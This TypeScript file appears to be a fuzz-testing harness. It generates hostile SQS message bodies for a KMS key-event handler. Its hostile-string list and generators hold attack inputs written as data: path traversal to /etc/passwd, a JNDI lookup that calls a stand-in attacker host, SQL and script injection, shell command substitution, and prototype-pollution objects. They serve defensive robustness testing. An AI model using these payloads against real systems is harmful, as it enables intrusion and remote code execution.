/**
 * fast-check generators of hostile SQS message bodies: the six real sample bodies (events/*.json)
 * mutated field by field and then as text, and bodies built from scratch in every supported
 * shape. Values are hostile on purpose: wrong types, huge strings, deep nesting, unicode and
 * control characters, prototype-pollution keys, ids that almost match, URLs and `../`.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { LOCAL_ACCOUNT } from '../test/support/local-account.ts';
import {
  JEmbedded,
  JObject,
  JRaw,
  type JNode,
  clone,
  ensureAscii,
  fromValue,
  locations,
  serialize,
} from './json-tree.ts';

const EVENTS_DIR = join(import.meta.dirname, '..', 'events');

/** The real sample bodies, by file name. */
export const SAMPLES: ReadonlyArray<{ name: string; body: string; tree: JNode }> = readdirSync(EVENTS_DIR)
  .filter((f) => f.endsWith('.json'))
  .sort()
  .map((f) => {
    const body = readFileSync(join(EVENTS_DIR, f), 'utf8');
    return { name: f.slice(0, -'.json'.length), body, tree: fromValue(JSON.parse(body)) };
  });

/** The projects the fuzzed function is configured for (both exist in the emulator account). */
export const CONFIGURED_PROJECTS: ReadonlyMap<string, string> = new Map([
  [LOCAL_ACCOUNT.projectId, 'cn-north-4'],
  [LOCAL_ACCOUNT.secondProjectId, 'ap-southeast-1'],
]);

/** A few key ids shared by many generated bodies, so duplicates and alias conflicts happen. */
export const KEY_POOL = [
  '4f2b9c1d-7a3e-4c58-9b6d-2e8f0a1c3d5e',
  '2d4f6a8c-0e1b-4d3f-9a5c-7e9b1d3f5a7c',
  'aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee',
  '00000000-0000-0000-0000-000000000000',
  'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
] as const;

/** SQS delivers only these characters (#x9 | #xA | #xD | #x20–#xD7FF | #xE000–#xFFFD | astral). */
export const SQS_INVALID_CHAR =
  /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\ud800-\udfff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/**
 * Replaces what SQS could never deliver: a body must be a valid, non-empty SQS message to reach
 * the function at all.
 */
export function sanitizeForSqs(text: string): string {
  const clean = text.replace(new RegExp(SQS_INVALID_CHAR.source, 'g'), '\ufffd');
  return clean === '' ? ' ' : clean;
}

/**
 * SQS's message limit is 1 MiB, and it counts the DLQ record's attributes (about 1 KB) with the
 * body. A body within that margin of the limit cannot be sent to the DLQ with its reason (it goes
 * back to the queue, and the queue's own redrive moves it without one): a known limit, not fuzzed.
 * Longer bodies are cut (which mostly makes them not_json).
 */
export const MAX_FUZZ_BODY_BYTES = 1024 * 1024 - 8 * 1024;

export function fitSqsMessage(text: string): string {
  if (text.length <= MAX_FUZZ_BODY_BYTES / 3 || Buffer.byteLength(text) <= MAX_FUZZ_BODY_BYTES) return text;
  return sanitizeForSqs(text.slice(0, Math.floor(MAX_FUZZ_BODY_BYTES / 3)));
}

/**
 * fauxqs (2.4.1) also refuses characters beyond U+FFFF, which real SQS accepts, so bodies for the
 * handler phase (whose DLQ is fauxqs) have them replaced; inside JSON strings they still arrive
 * as `\ud83d\ude00` escapes (see ensureAscii). The normaliser phase keeps them raw.
 */
export function sanitizeForFauxqs(text: string): string {
  return sanitizeForSqs(text).replace(/[\ud800-\udbff][\udc00-\udfff]/g, '\ufffd');
}

const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\u0000',
  '\u0007',
  '\u001b[31mred',
  '\u007f',
  '\u0085',
  '\u009b',
  '\u200b',
  '\u200e',
  '\u202e',
  '\u2028',
  '\ufeff',
  '\ufffe',
  '\uffff',
  '\ud800',
  '\udfff',
  '\ud83d\ude00',
  'é',
  'ß',
  'İ',
  'ﬁ',
  'Ａ',
  '𝓪',
  '٣',
  '../',
  '../../../../etc/passwd',
  '..\\..\\',
  '%2e%2e%2f',
  '%252e%252e%252f',
  '..%2f',
  '%00',
  '%',
  '/',
  '//',
  '///',
  'alias/',
  'alias//x',
  'alias/x/',
  'default',
  '/default',
  'x/default',
  'x/DEFAULT',
  'alias/default',
  'Default',
  'http://evil.example/',
  'https://evil.example:443/x?y=1#z',
  '//evil.example',
  'evil.example',
  'user:pass@evil.example',
  '127.0.0.1',
  '[::1]',
  'localhost',
  'kms.cn-north-4.myhuaweicloud.com.evil.example',
  'cn-north-4.evil.example',
  'cn-north-4/../../',
  'cn-north-4?x=1',
  'cn-north-4#',
  'cn-north-4',
  'ap-southeast-1',
  'eu-west-101',
  'CN-NORTH-4',
  '{key_id}',
  '{env}',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  '"; DROP TABLE keys; --',
  '`id`',
  '$(id)',
  '|',
  '\\',
  '"',
  "'",
  '{',
  '}',
  '[',
  ']',
  ':',
  '-',
  '_',
  'a:b',
  'a/b',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e999',
  '200',
  '400',
  '500',
  '1793693730000',
  'kms.key.created',
  'KMS',
  'kms',
  'Kms',
  'createKey',
  'CREATEKEY',
  'createkey',
  'cmk',
  'CMK',
  'deleteKey',
  'Notification',
  'AKIAIOSFODNN7EXAMPLE',
  'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  'ak=FAKEFAKEFAKE',
  'X-Auth-Token',
  'payments-db',
  'Payments DB (prod)',
  'ops.bot@acme',
  'AES_256',
  'ENCRYPT_DECRYPT',
  'SIGN_VERIFY',
  'external',
  'User',
  '2026-11-03T13:15:30Z',
  '2026-02-30T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59+14:00',
  '2026-11-03',
  'x'.repeat(128),
  'x'.repeat(129),
  'x'.repeat(255),
  'x'.repeat(256),
  'a-'.repeat(128),
  '-'.repeat(300),
  `alias/${'a'.repeat(250)}`,
  'é'.repeat(300),
  '😀'.repeat(130),
];

const HOMOGLYPHS: Readonly<Record<string, string>> = { a: 'а', e: 'е', o: 'о', c: 'с', '0': 'О', '1': 'l', '-': '‐' };

/** Ways to make an id almost right. */
function nearMiss(value: string, how: number, n: number): string {
  const at = value.length === 0 ? 0 : n % value.length;
  const ch = value[at] ?? 'a';
  switch (how % 16) {
    case 0:
      return value.slice(0, at) + ch.toUpperCase() + value.slice(at + 1);
    case 1:
      return value.slice(0, at) + value.slice(at + 1);
    case 2:
      return value.slice(0, at) + ch + value.slice(at);
    case 3:
      return value.replaceAll('-', '_');
    case 4:
      return ` ${value}`;
    case 5:
      return `${value}\n`;
    case 6:
      return value.slice(0, at) + (HOMOGLYPHS[ch] ?? 'é') + value.slice(at + 1);
    case 7:
      return value.slice(0, at) + '\u0000' + value.slice(at + 1);
    case 8:
      return `../${value}`;
    case 9:
      return `${value}/../../x`;
    case 10:
      // A lone surrogate cannot be percent-encoded (URIError): encode its well-formed twin.
      return encodeURIComponent(`/${value}`.toWellFormed());
    case 11:
      return value.toUpperCase();
    case 12:
      return `${value}${value}`;
    case 13:
      return value.slice(0, at) + '%2F' + value.slice(at + 1);
    case 14:
      return (
        value.slice(0, at) + String.fromCharCode(0xff10 + (Number.parseInt(ch, 36) % 10 || 0)) + value.slice(at + 1)
      );
    default:
      return `urn:kms:cn-north-4:${LOCAL_ACCOUNT.projectId}:cmk:${value}`;
  }
}

export const validKeyId: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...KEY_POOL) },
  { weight: 2, arbitrary: fc.stringMatching(/^[0-9a-z]{8}-[0-9a-z]{4}-[0-9a-z]{4}-[0-9a-z]{4}-[0-9a-z]{12}$/) },
);

const anyProjectId = fc.oneof(
  { weight: 6, arbitrary: fc.constant(LOCAL_ACCOUNT.projectId) },
  { weight: 2, arbitrary: fc.constant(LOCAL_ACCOUNT.secondProjectId) },
  { weight: 1, arbitrary: fc.stringMatching(/^[0-9a-zA-Z]{32}$/) },
);

/** Strings that almost pass as key ids, project ids or regions. */
const nearMissId: fc.Arbitrary<string> = fc
  .tuple(fc.oneof(validKeyId, anyProjectId, fc.constantFrom('cn-north-4', 'ap-southeast-1')), fc.nat(), fc.nat())
  .map(([value, how, n]) => nearMiss(value, how, n));

const controlChars = fc.string({
  unit: fc
    .oneof(
      fc.integer({ min: 0, max: 0x1f }),
      fc.integer({ min: 0x7f, max: 0x9f }),
      fc.constantFrom(0xfffe, 0xffff, 0xd800, 0xdfff, 0x2028, 0x202e),
    )
    .map((c) => String.fromCharCode(c)),
  maxLength: 6,
});

/** Long strings (to 300,000 characters: past the 256 KiB body limit). */
const hugeString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('x', 'é', '😀', '-', '/', '\u0000', 'a/'), fc.integer({ min: 200, max: 300_000 }))
  .map(([unit, n]) => unit.repeat(Math.ceil(n / unit.length)));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 2, arbitrary: controlChars },
  { weight: 4, arbitrary: nearMissId },
  {
    weight: 3,
    arbitrary: fc
      .tuple(
        fc.constantFrom(...HOSTILE_STRINGS),
        fc.constantFrom(...HOSTILE_STRINGS),
        fc.constantFrom(...HOSTILE_STRINGS),
      )
      .map(([a, b, c]) => `${a}${b}${c}`),
  },
  { weight: 1, arbitrary: hugeString },
);

/** An object that tries to plant properties on Object.prototype when merged carelessly. */
const pollution: fc.Arbitrary<JNode> = fc.constantFrom<JNode>(
  new JObject([
    [
      '__proto__',
      new JObject([
        ['polluted', 'yes'],
        ['isAdmin', true],
        ['key_alias', 'pwned'],
        ['region', 'evil.example'],
      ]),
    ],
  ]),
  new JObject([
    [
      'constructor',
      new JObject([
        [
          'prototype',
          new JObject([
            ['polluted', 'yes'],
            ['endpoint', 'https://evil.example'],
          ]),
        ],
      ]),
    ],
  ]),
  new JObject([
    ['__proto__', new JObject([['fuzzCanary', 1]])],
    ['__proto__', null],
  ]),
  new JObject([
    ['prototype', new JObject([['isAdmin', true]])],
    ['toString', 'x'],
    ['hasOwnProperty', 1],
    ['valueOf', null],
  ]),
);

/** Deep nesting, written as raw text so that nothing recursive ever walks it on our side. */
const deepNesting: fc.Arbitrary<JNode> = fc
  .tuple(fc.integer({ min: 50, max: 20_000 }), fc.boolean(), fc.boolean())
  .map(([depth, arrays, truncated]) => {
    const open = arrays ? '['.repeat(depth) : '{"a":'.repeat(depth);
    const close = arrays ? ']'.repeat(depth) : '}'.repeat(depth);
    return new JRaw(`${open}${arrays ? '' : '1'}${truncated ? close.slice(1) : close}`);
  });

export const hostileValue: fc.Arbitrary<JNode> = fc.oneof(
  { weight: 10, arbitrary: hostileString },
  {
    weight: 2,
    arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -0, 1e308, 2 ** 53 + 2, 1793693730000, 200, 404)),
  },
  { weight: 1, arbitrary: fc.constantFrom<JNode>(null, true, false, [], new JObject([])) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      new JRaw('1e999'),
      new JRaw('-1e999'),
      new JRaw('123456789012345678901234567890'),
      new JRaw('-0.0e-0'),
    ),
  },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }).map(fromValue) },
  { weight: 1, arbitrary: deepNesting },
  { weight: 2, arbitrary: pollution },
);

const FIELD_NAMES = [
  'type',
  'key_id',
  'project_id',
  'region',
  'region_id',
  'domain_id',
  'key_alias',
  'key_spec',
  'key_usage',
  'origin',
  'enterprise_project_id',
  'key_description',
  'created_by',
  'created_at',
  'trace_id',
  'service_type',
  'trace_name',
  'resource_type',
  'code',
  'request',
  'response',
  'key_info',
  'resource_id',
  'resource_account_id',
  'time',
  'user',
  'name',
  'id',
  'domain',
  'cts',
  'specversion',
  'data',
  'Type',
  'Message',
  'detail-type',
  'detail',
] as const;

const keyName: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...FIELD_NAMES) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      '',
      ' key_id',
      'KEY_ID',
      'key_id\u0000',
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
);

/** One structural edit of a document. */
interface Mutation {
  op:
    | 'replace'
    | 'delete'
    | 'insert'
    | 'duplicate-key'
    | 'near-miss'
    | 'append'
    | 'set-field'
    | 'stringify'
    | 'unembed'
    | 'swap'
    | 'wrap-sns'
    | 'wrap-eventbridge'
    | 'pollute'
    | 'rekey';
  at: number;
  other: number;
  key: string;
  value: JNode;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  op: fc.constantFrom<Mutation['op']>(
    'replace',
    'replace',
    'replace',
    'delete',
    'insert',
    'duplicate-key',
    'near-miss',
    'near-miss',
    'append',
    'set-field',
    'set-field',
    'stringify',
    'unembed',
    'swap',
    'wrap-sns',
    'wrap-eventbridge',
    'pollute',
    'rekey',
    'rekey',
  ),
  at: fc.nat(),
  other: fc.nat(),
  key: keyName,
  value: hostileValue,
});

function applyMutation(doc: { node: JNode }, mutation: Mutation): void {
  // Generated values may be shared instances (constantFrom): never insert one twice.
  const m = { ...mutation, value: clone(mutation.value) };
  const locs = locations(doc);
  const loc = locs[m.at % locs.length]!;
  const current = loc.get();
  switch (m.op) {
    case 'replace':
      loc.set(m.value);
      return;
    case 'delete':
      loc.remove();
      return;
    case 'insert':
      if (current instanceof JObject) current.entries.push([m.key, m.value]);
      else if (Array.isArray(current)) current.push(m.value);
      else loc.set(new JObject([[m.key, m.value]]));
      return;
    case 'duplicate-key':
      if (loc.parent !== undefined && loc.key !== undefined) loc.parent.entries.push([loc.key, m.value]);
      return;
    case 'near-miss':
      if (typeof current === 'string') loc.set(nearMiss(current, m.other, m.at));
      else if (typeof current === 'number') loc.set(String(current));
      return;
    case 'append':
      loc.set(
        `${typeof current === 'string' ? current : serialize(current)}${typeof m.value === 'string' ? m.value : '/../x'}`,
      );
      return;
    case 'set-field':
      for (const l of locs) if (l.key === m.key) l.set(clone(m.value));
      return;
    case 'stringify':
      if (current instanceof JObject) loc.set(new JEmbedded(current));
      else loc.set(serialize(current));
      return;
    case 'unembed':
      if (current instanceof JEmbedded) loc.set(current.node);
      return;
    case 'swap': {
      const other = locs[m.other % locs.length]!;
      if (other === loc) return;
      const a = clone(current);
      const b = clone(other.get());
      loc.set(b);
      other.set(a);
      return;
    }
    case 'wrap-sns':
      doc.node = new JObject([
        ['Type', 'Notification'],
        ['MessageId', '3f2a1b0c-9d8e-5f7a-a6b5-c4d3e2f1a0b9'],
        ['Message', doc.node instanceof JObject ? new JEmbedded(doc.node) : doc.node],
      ]);
      return;
    case 'wrap-eventbridge':
      doc.node = new JObject([
        ['version', '0'],
        ['detail-type', 'Huawei Cloud EventGrid event'],
        ['source', 'fuzz'],
        ['detail', doc.node],
      ]);
      return;
    case 'rekey': {
      // Another real key id everywhere: the same name on another key (conflicts), another name on this key.
      const keyId = KEY_POOL[m.other % KEY_POOL.length]!;
      for (const l of locs) {
        const v = l.get();
        if (l.key === 'key_id' || (l.key === 'resource_id' && typeof v === 'string'))
          l.set(l.key === 'key_id' ? keyId : String(v).replace(/[0-9a-z-]{36}$/, keyId));
      }
      return;
    }
    case 'pollute':
      if (current instanceof JObject)
        current.entries.unshift([
          '__proto__',
          new JObject([
            [m.key, m.value],
            ['polluted', 'yes'],
          ]),
        ]);
      return;
  }
}

/** One edit of the printed text: truncation, insertion, deletion, duplication. */
const textMutation = fc.record({
  op: fc.constantFrom('truncate', 'insert', 'delete', 'duplicate', 'replace-char', 'prefix'),
  at: fc.nat(),
  length: fc.integer({ min: 1, max: 64 }),
  text: fc.oneof(
    fc.constantFrom('"', '{', '}', '[', ']', ',', ':', '\\', '\\u', '\\ud800', 'null', '\ufeff', ' ', '\n'),
    fc.string({ unit: 'binary', maxLength: 8 }),
  ),
});

function applyTextMutation(text: string, m: { op: string; at: number; length: number; text: string }): string {
  const at = text.length === 0 ? 0 : m.at % text.length;
  switch (m.op) {
    case 'truncate':
      return text.slice(0, at);
    case 'insert':
      return text.slice(0, at) + m.text + text.slice(at);
    case 'delete':
      return text.slice(0, at) + text.slice(at + m.length);
    case 'duplicate':
      return text.slice(0, at + m.length) + text.slice(at, at + m.length) + text.slice(at + m.length);
    case 'replace-char':
      return text.slice(0, at) + m.text.slice(0, 1) + text.slice(at + 1);
    default:
      return m.text + text;
  }
}

/** Where a generated body came from, for the summary. */
export type BodyOrigin = `sample:${string}` | `scratch:${string}`;

export interface GeneratedBody {
  origin: BodyOrigin;
  body: string;
}

/** A real sample, with 0–6 structural edits and, one time in four, a few text edits. */
export const mutatedSample: fc.Arbitrary<GeneratedBody> = fc
  .record({
    sample: fc.nat({ max: SAMPLES.length - 1 }),
    mutations: fc.array(mutation, { minLength: 0, maxLength: 6 }),
    text: fc.oneof(
      { weight: 3, arbitrary: fc.constant([]) },
      { weight: 1, arbitrary: fc.array(textMutation, { minLength: 1, maxLength: 3 }) },
    ),
    ascii: fc.boolean(),
  })
  .map(({ sample, mutations, text, ascii }) => {
    const source = SAMPLES[sample]!;
    const doc = { node: clone(source.tree) };
    for (const m of mutations) applyMutation(doc, m);
    let body = ascii ? ensureAscii(serialize(doc.node)) : serialize(doc.node);
    for (const t of text) body = applyTextMutation(body, t);
    return { origin: `sample:${source.name}`, body: sanitizeForSqs(body) };
  });

const optional = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: undefined, freq: 3 });

const realisticName = fc.oneof(
  fc.constantFrom(
    'payments-db',
    'Payments DB (prod)',
    'orders/api',
    'reporting-etl',
    'obs/default',
    'default',
    'a',
    'x'.repeat(255),
  ),
  fc.stringMatching(/^[a-zA-Z0-9:/_-]{1,40}$/),
);

const fieldValue = <T extends JNode>(good: fc.Arbitrary<T>) =>
  fc.oneof({ weight: 4, arbitrary: good as fc.Arbitrary<JNode> }, { weight: 1, arbitrary: hostileValue });

function entriesOf(record: Record<string, JNode | undefined>): JObject {
  return new JObject(Object.entries(record).filter((e): e is [string, JNode] => e[1] !== undefined));
}

/** The canonical `{"type": "kms.key.created", ...}` with mostly plausible, sometimes hostile fields. */
const canonicalScratch: fc.Arbitrary<JNode> = fc
  .record({
    type: fc.oneof(
      { weight: 9, arbitrary: fc.constant<JNode>('kms.key.created') },
      { weight: 1, arbitrary: hostileValue },
    ),
    key_id: fieldValue(validKeyId),
    project_id: fieldValue(anyProjectId),
    region: optional(fieldValue(fc.constantFrom('cn-north-4', 'ap-southeast-1', 'eu-west-101'))),
    domain_id: optional(fieldValue(fc.stringMatching(/^[0-9a-f]{32}$/))),
    key_alias: optional(fieldValue(realisticName)),
    key_spec: optional(fieldValue(fc.constantFrom('AES_256', 'SM4', 'RSA_2048', 'EC_P256'))),
    key_usage: optional(fieldValue(fc.constantFrom('ENCRYPT_DECRYPT', 'SIGN_VERIFY'))),
    origin: optional(fieldValue(fc.constantFrom('kms', 'external'))),
    enterprise_project_id: optional(fieldValue(fc.constantFrom('0', '6b2f1e0d-9c8b-4a7f-8e6d-5c4b3a2f1e0d'))),
    key_description: optional(hostileValue),
    created_by: optional(
      fc.oneof(
        fieldValue(fc.constantFrom('alice', 'ops.bot@acme', 'Terraform Agency')),
        fc.record({ name: hostileValue, id: hostileValue, type: hostileValue }).map((r) => entriesOf(r) as JNode),
      ),
    ),
    created_at: optional(
      fieldValue(
        fc.date({ min: new Date(0), max: new Date(4102444800000), noInvalidDate: true }).map((d) => d.toISOString()),
      ),
    ),
    trace_id: optional(hostileValue),
  })
  .map((r) => entriesOf(r) as JNode);

/** A CTS createKey trace, bare or in a FunctionGraph/CloudEvent/SNS/EventBridge shape. */
const ctsScratch: fc.Arbitrary<JNode> = fc
  .record({
    service_type: fieldValue(fc.constantFrom('KMS', 'kms', 'OBS')),
    trace_name: fieldValue(fc.constantFrom('createKey', 'createKey', 'disableKey')),
    resource_type: optional(fieldValue(fc.constant('cmk'))),
    code: fieldValue(fc.constantFrom<JNode>(200, '200', 201, 400, '500')),
    project_id: optional(fieldValue(anyProjectId)),
    resource_id: optional(fieldValue(validKeyId.map((k) => `urn:kms:cn-north-4:${LOCAL_ACCOUNT.projectId}:cmk:${k}`))),
    key_id: fieldValue(validKeyId),
    region_id: optional(fieldValue(fc.constantFrom('cn-north-4', 'ap-southeast-1'))),
    key_alias: optional(fieldValue(realisticName)),
    key_spec: optional(fieldValue(fc.constantFrom('AES_256', 'RSA_3072'))),
    user_name: optional(hostileValue),
    time: optional(fieldValue(fc.integer({ min: 946684800000, max: 4102444800000 }))),
    embedded: fc.boolean(),
    shape: fc.constantFrom('bare', 'functiongraph', 'cloudevent', 'sns', 'eventbridge'),
  })
  .map((r) => {
    const request = entriesOf({ key_alias: r.key_alias, key_spec: r.key_spec });
    const response = new JObject([
      [
        'key_info',
        entriesOf({ key_id: r.key_id, region_id: r.region_id, domain_id: '3bab8e245e854f68af5967c00dd43127' }),
      ],
    ]);
    const trace = entriesOf({
      service_type: r.service_type,
      trace_name: r.trace_name,
      resource_type: r.resource_type,
      code: r.code,
      project_id: r.project_id,
      resource_id: r.resource_id,
      time: r.time,
      user: r.user_name === undefined ? undefined : new JObject([['name', r.user_name]]),
      request: r.embedded ? new JEmbedded(request) : request,
      response: r.embedded ? new JEmbedded(response) : response,
    });
    switch (r.shape) {
      case 'functiongraph':
        return new JObject([['cts', trace]]);
      case 'cloudevent':
        return new JObject([
          ['specversion', '1.0'],
          ['id', 'x'],
          ['data', trace],
        ]);
      case 'sns':
        return new JObject([
          ['Type', 'Notification'],
          ['Message', new JEmbedded(trace)],
        ]);
      case 'eventbridge':
        return new JObject([
          ['detail-type', 'x'],
          [
            'detail',
            new JObject([
              ['specversion', '1.0'],
              ['data', trace],
            ]),
          ],
        ]);
      default:
        return trace;
    }
  });

/** Bodies built from nothing: random JSON and text, and the supported shapes with hostile fields. */
export const scratchBody: fc.Arbitrary<GeneratedBody> = fc
  .oneof(
    {
      weight: 4,
      arbitrary: fc.tuple(canonicalScratch, fc.boolean()).map(([t, ascii]) => ({
        origin: 'scratch:canonical' as const,
        body: ascii ? ensureAscii(serialize(t)) : serialize(t),
      })),
    },
    {
      weight: 3,
      arbitrary: fc.tuple(ctsScratch, fc.boolean()).map(([t, ascii]) => ({
        origin: 'scratch:cts' as const,
        body: ascii ? ensureAscii(serialize(t)) : serialize(t),
      })),
    },
    { weight: 1, arbitrary: fc.json({ maxDepth: 4 }).map((body) => ({ origin: 'scratch:json' as const, body })) },
    {
      weight: 1,
      arbitrary: fc
        .string({ unit: 'binary', maxLength: 200 })
        .map((s) => ({ origin: 'scratch:text' as const, body: s })),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(
          '',
          ' ',
          'null',
          '[]',
          '{}',
          '"x"',
          '0',
          '{"cts":',
          '{"cts":null}',
          '{"type":"kms.key.created"}',
          '\ufeff{}',
          '{"Type":"Notification","Message":"{\\"Type\\":\\"Notification\\",\\"Message\\":\\"{}\\"}"}',
        )
        .map((body) => ({ origin: 'scratch:literal' as const, body })),
    },
  )
  .map((b) => ({ ...b, body: sanitizeForSqs(b.body) }));

/** Every generated body: mutated samples, and bodies from scratch. */
export const anyBody: fc.Arbitrary<GeneratedBody> = fc.oneof(
  { weight: 3, arbitrary: mutatedSample },
  { weight: 2, arbitrary: scratchBody },
);
